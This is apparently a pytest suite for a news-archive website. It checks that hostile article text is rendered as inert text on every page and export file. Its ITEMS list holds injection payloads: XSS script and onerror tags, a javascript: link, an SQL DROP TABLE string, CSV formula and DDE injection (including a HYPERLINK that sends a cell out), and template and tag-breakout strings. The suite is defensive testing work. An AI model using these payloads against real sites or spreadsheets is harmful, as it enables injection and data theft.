"""What comes from the web is shown as text on every kind of page and in every file, whatever it would like to be."""

import csv
import io
import json
import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote
from xml.etree import ElementTree

import pytest
from lxml import html

from archive.store import catalogue, open_database, texts
from datasette_config.cells import FORMULA, Rows

# Their classes are in conftest.py, which pytest's import mode keeps out of reach of imports.
Archive = Site = Any

WORD = "w" * 1_000_000
ITEMS = {
    "script": "<script>alert('x')</script><img src=x onerror=alert(1)>",
    "javascript link": "javascript:alert(document.domain)",
    "SQL": "'; DROP TABLE versions; --\" OR 1=1",
    "formula": "=HYPERLINK(\"https://elsewhere.example/?\"&A1,\"more\")",
    "formula after a tab": "\t=cmd|' /C calc'!A0",
    "right-to-left override": "safe \u202egnp.exe\u202c \u2066name\u2069",
    "template": "{{ config }}{% raw %}${7*7}",
    "closes what it stands in": "</title></textarea></script>\"'><svg onload=alert(2)>-->]]>",
    "control characters": "a\x07b\x1b[31mc\u2028d\ufffe",
}
FIELDS = "title = :item, byline = :item, site_name = :item, authors = json_array(:item), credits = json_array(:item)"


def pages_of(archive: Archive) -> list[str]:
    """Each kind of page that shows something of an article."""
    key, other = archive.digest, archive.herald
    return ["/", "/search", "/search?q=kursk", f"/article/{key}", f"/family/{archive.family}", f"/family/{archive.pair}",
            f"/compare?left={key}&right={other}", f"/compare?left={archive.spanish}&right={key}", "/capture/3", "/outlets",
            "/sources", "/health", "/data", "/places", f"/trace?of={key}", "/archive/article", "/archive/versions/1",
            "/archive/article?_facet=outlet", "/archive/who_copies_whom", "/archive/most_copied"]


def files_of(archive: Archive) -> list[str]:
    return [f"/search.{end}" for end in ("csv", "atom", "bib", "ris", "csl.json")] + [
        f"/article/{archive.digest}{end}" for end in (
            "/cite.ris", "/cite.bib", "/cite.json", "/cite.html", ".json", ".prov.json", ".prov.jsonld", ".provn")] + [
        "/feeds/articles.atom", "/feeds/versions.atom", "/feeds/reposts.atom", "/sitemap-1.xml", "/llms.txt",
        "/archive/article.csv?_size=max", "/archive/article.csv?_size=max&_dl=on", "/archive/article.json?_shape=array",
        "/archive/who_copies_whom.csv"]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, build: Any, site_of: Any) -> Iterator[tuple[Site, Archive, Any]]:
    """A site, and what makes all of its articles say something."""
    archive = build(tmp_path_factory.mktemp("hostile"))
    conn = open_database(archive.database)

    def say(item: str) -> None:
        values = {"item": item, "text_id": texts.keep(conn, f"{item}\n\nKursk and Sudzha. {item}")}
        conn.execute(f"UPDATE documents SET {FIELDS}", values)
        conn.execute("UPDATE versions SET title = :item, text_id = :text_id", values)
        conn.execute("UPDATE outlets SET outlet = :item, owner = :item, country = NULL", values)
        conn.execute("UPDATE links SET evidence = json_array(json_object('kind', 'credit', 'favours', '', 'weight', 1.0, "
                     "'detail', :item))", values)
        conn.execute("INSERT INTO failures VALUES ('extract', :item, '1', :item, '') ON CONFLICT DO NOTHING", values)
        conn.execute("INSERT OR IGNORE INTO uncatalogued SELECT article_id FROM articles")
        while pending := catalogue.pending(conn, limit=100):
            catalogue.renew(conn, pending)
        conn.commit()

    with site_of(archive.data) as site:
        yield site, archive, say
    conn.close()


@pytest.mark.parametrize("kind", ITEMS)
def test_it_is_text_on_every_page(hostile: tuple[Site, Archive, Any], kind: str) -> None:
    site, archive, say = hostile
    say(ITEMS[kind])
    for path in pages_of(archive):
        answer = site.get(path)
        assert answer.status_code == 200, path
        assert "content-security-policy" in answer.headers, path
        tree = html.fromstring(answer.content)
        assert not tree.xpath("//@*[starts-with(name(), 'on')]|//svg[@onload]|//iframe|//base"), path
        for address in tree.xpath("//@href|//@src|//@action"):
            assert re.match(r"/(?!/)|#|\?|https?://|data:image/|mailto:", address), (path, address)
        if not path.startswith("/archive"):
            assert all(one.get("type") == "application/ld+json" or one.get("src", "").startswith("/-/static")
                       for one in tree.xpath("//script")), path
        assert "49" not in "".join(tree.xpath("//h1//text()")), path
    article = html.fromstring(site.get(f"/article/{archive.digest}").content)
    shown = " ".join(article.xpath("string(//h1)").split())
    kept = " ".join(re.sub(r"[\x00-\x08\x0b-\x1f\ufffe]", "", ITEMS[kind]).split())
    assert re.sub(r"[\x00-\x08\x0b-\x1f\ufffe\ufffd]", "", shown) == kept


@pytest.mark.parametrize("kind", ITEMS)
def test_it_is_text_in_every_file(hostile: tuple[Site, Archive, Any], kind: str) -> None:
    site, archive, say = hostile
    say(ITEMS[kind])
    for path in files_of(archive):
        answer = site.get(path)
        assert answer.status_code == 200, path
        assert answer.headers.get("x-content-type-options") == "nosniff" or path.startswith("/archive"), path
        kinds = answer.headers["content-type"]
        if "xml" in kinds:
            ElementTree.fromstring(answer.content)
        elif "json" in kinds:
            json.loads(answer.text)
        elif ".csv" in path:
            cells = [cell for row in csv.reader(io.StringIO(answer.text)) for cell in row]
            assert not [cell for cell in cells if cell.startswith(FORMULA)], path
            assert len({len(row) for row in csv.reader(io.StringIO(answer.text))}) == 1, path
        elif "html" in kinds:
            tree = html.fromstring(answer.content)
            assert not tree.xpath("//script|//svg|//img|//@*[starts-with(name(), 'on')]"), path


def test_a_word_of_a_million_letters_is_shown_in_time_and_keeps_no_page_from_being_read(
    hostile: tuple[Site, Archive, Any]
) -> None:
    from time import process_time

    site, archive, say = hostile
    say(WORD)
    began = process_time()
    for path in [*pages_of(archive), *files_of(archive), f"/search?q={'w' * 390}*", f"/search?q={quote('w' * 390)}"]:
        assert site.get(path).status_code in (200, 503), path
    assert process_time() - began < 120, "CPU seconds for forty pages"
    assert len(site.get("/search?q=kursk").content) < 400_000, "a list shows beginnings"


@pytest.mark.parametrize(("given", "plain"), [
    ("a,=b\r\n", "a,'=b\r\n"), ('"=a,""b""",-1.5,-x\r\n', '"\'=a,""b""",-1.5,\'-x\r\n'),
    ("a,,+1\r\n,@x\r\n", "a,,+1\r\n,'@x\r\n"), ('"a\n=b","\n=c"\r\n', '"a\n=b","\'\n=c"\r\n'), ("", ""), ("=", "'="),
])
def test_cells_of_a_table_are_made_plain_however_the_table_is_cut(given: str, plain: str) -> None:
    for size in (1, 3, 1_000):
        rows, pieces = Rows(), [given[place:place + size].encode() for place in range(0, len(given), size)]
        found = b"".join(rows.feed(piece, is_last=False) for piece in pieces) + rows.feed(b"", is_last=True)
        assert found.decode() == plain
